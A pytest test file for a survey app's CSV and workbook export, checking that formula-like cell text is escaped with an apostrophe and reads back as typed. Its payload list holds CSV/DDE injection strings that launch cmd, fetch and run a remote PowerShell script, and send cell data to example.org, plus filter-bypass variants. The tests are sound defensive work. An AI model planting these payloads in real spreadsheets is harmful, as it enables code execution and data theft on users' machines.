"""What people type, meant well or not, in a spreadsheet: it stays text there, and comes back as it was typed."""

import csv
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from mshopper.exchange.cells import read_cell, write_cell
from mshopper.exchange.csvfile import csv_reader, read_rows, table_bytes
from mshopper.exchange.folder import HeadOffice
from mshopper.exchange.merge import merge
from mshopper.exchange.merged import read_merged
from mshopper.exchange.schema import ANSWERS
from mshopper.exchange.spreadsheet import write_spreadsheets
from mshopper.exchange.tables_workbook import write_workbook
from tests.shared_files import shared_file

DANGEROUS = [
    # Programs started over DDE, and the ways around a filter on the first sign
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=AAAA+BBBB-CCCC&\"x\"/12345&cmd|'/c calc.exe'!A",
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    "\n=cmd|' /C calc'!A0",
    # Cells sent elsewhere
    '=HYPERLINK("http://example.org/?"&A1&A2,"Error: click here")',
    '=IMPORTXML(CONCAT("http://example.org/?v=";CONCATENATE(A2:E2));"//a/a10")',
    '=IMPORTFEED("http://example.org")',
    '=WEBSERVICE("http://example.org/"&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    # Full-width signs, which some programs fold
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    # An apostrophe of one's own must not be the one that is taken away
    "'=1+1",
    "''=1+1",
    "+39 02 1234",
    "-1,5",
]
PLAIN = [
    "-5",
    "+5",
    "1e3",
    "-3.50",
    "010",
    " =1+1",
    "\u00a0=1+1",
    "−1+1",
    "%0A-3+3+cmd|' /C calc'!D2",
    "%3D1+1",
    "Rossi & figli",
    "a=b",
    "x,y",
    'said "no"',
    "one\r\ntwo",
    "🛍️",
    "שלום",
    "\ufeffx",
    "z" * 32_767,
]
TYPED = DANGEROUS + PLAIN


@pytest.fixture
def folder(head_office: HeadOffice, laptop: Any, visit: Any) -> Path:
    """A head office where each text is the comment on one visit."""
    visits = [visit(number, comment=text) for number, text in enumerate(TYPED, start=1)]
    laptop("anna").publish(head_office, *visits)
    merge(head_office, device_id="office")
    return head_office.folder


def by_visit(rows: list[dict[str, str]]) -> list[str]:
    """The comments in the order of the visits."""
    return [row["comment"] for row in sorted(rows, key=lambda row: int(row["visit_id"].replace("-", ""), 16))]


def test_dangerous_cells_get_one_apostrophe_and_nothing_else_changes() -> None:
    """In the bytes: what a spreadsheet could run begins with an apostrophe; numbers and plain text are as typed."""
    assert [write_cell(text) for text in DANGEROUS] == [f"'{text}" for text in DANGEROUS]
    assert [write_cell(text) for text in PLAIN] == PLAIN
    assert [read_cell(write_cell(text)) for text in TYPED] == TYPED


def test_every_table_and_workbook_gives_back_what_was_typed(folder: Path) -> None:
    """The merged table by our reader, the Italian one by Python's, the workbook by calamine."""
    merged = read_merged(folder)
    assert merged is not None
    assert by_visit(list(merged.rows(ANSWERS))) == TYPED
    write_spreadsheets(folder, "it")
    text = (folder / "head-office.it-answers.csv").read_bytes().decode("utf-8-sig")
    italian = by_visit(list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";", strict=True)))
    assert [read_cell(cell) for cell in italian] == TYPED
    rows = CalamineWorkbook.from_path(str(write_workbook(folder, "it"))).get_sheet_by_index(2).to_python()
    named = [{str(name): str(cell) for name, cell in zip(rows[0], row, strict=True)} for row in rows[1:]]
    assert by_visit(named) == TYPED


def test_real_csv_files_come_back(tmp_path: Path) -> None:
    """Each cell of a published set of odd CSV files, taken as text that somebody typed."""
    files = sorted(shared_file("corpus/csv/spectrum").glob("*.csv"))
    assert len(files) == 12
    for file in files:
        rows = list(csv_reader(file.read_bytes().decode("utf-8")))
        names = [str(number) for number in range(max(map(len, rows)))]
        typed = [dict(zip(names, row + [""] * (len(names) - len(row)), strict=True)) for row in rows]
        data, _file = table_bytes(names, typed)
        assert list(read_rows(io.BytesIO(data))) == typed, file.name


@pytest.mark.slow
def test_libreoffice_finds_no_formula(folder: Path, tmp_path: Path) -> None:
    """It opens the table, the Italian one and the workbook; no cell is a formula, each text stands there as text.

    It runs what begins with "=" in a CSV, so an apostrophe that lacks would show; needs LibreOffice Calc.
    """
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice isn't installed")
    write_spreadsheets(folder, "it")
    (tmp_path / "bare.csv").write_text("=1+1\r\n")
    assert _opened(tmp_path / "bare.csv", tmp_path, "44,34,76,1")[0] == ["of:=1+1"]
    for path, options, sign in (
        (folder / "head-office-answers.csv", "44,34,76,1", "'"),
        (folder / "head-office.it-answers.csv", "59,34,76,1", "'"),
        (write_workbook(folder, "it"), "", ""),
    ):
        formulas, texts = _opened(path, tmp_path, options)
        assert formulas == [], path.name
        # What it does to tabs and line breaks within a cell isn't ours.
        assert {f"{sign}{text}" for text in DANGEROUS if text.isprintable()} <= texts, path.name


def _opened(path: Path, place: Path, options: str) -> tuple[list[str], set[str]]:
    """The formulas and the texts of a file as LibreOffice opens it."""
    profile = ["-env:UserInstallation=" + (place / "profile").as_uri(), "--headless", "--convert-to", "fods"]
    reading = [f"--infilter=CSV:{options}"] if options else []
    subprocess.run(
        ["soffice", *profile, *reading, "--outdir", str(place), str(path)], check=True, capture_output=True, timeout=120
    )
    tree = ET.parse(place / f"{path.stem}.fods")
    names = {name: f"urn:oasis:names:tc:opendocument:xmlns:{name}:1.0" for name in ("table", "text")}
    formula = f"{{{names['table']}}}formula"
    cells = tree.findall(".//table:table-cell", names)
    assert cells
    texts = {"\n".join("".join(part.itertext()) for part in cell.findall("text:p", names)) for cell in cells}
    return [cell.attrib[formula] for cell in cells if formula in cell.attrib], texts
